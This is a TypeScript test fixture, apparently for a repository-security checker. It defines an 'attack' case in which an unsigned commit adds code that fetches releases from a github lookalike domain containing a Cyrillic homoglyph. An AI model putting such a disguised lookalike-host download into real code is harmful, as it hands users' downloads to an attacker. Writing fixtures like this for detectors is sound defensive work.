import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A download goes to a host that reads like a well-known one, with one letter of another alphabet.",
  write(branch) {
    branch.unsigned(NEWCOMER, "Fetch releases from the mirror", {
      "src/releases.js": `export const releases = () => fetch("https://api.g${String.fromCodePoint(0x456)}thub.com/repos/text-tools/text-tools/releases");\n`,
    });
  },
};
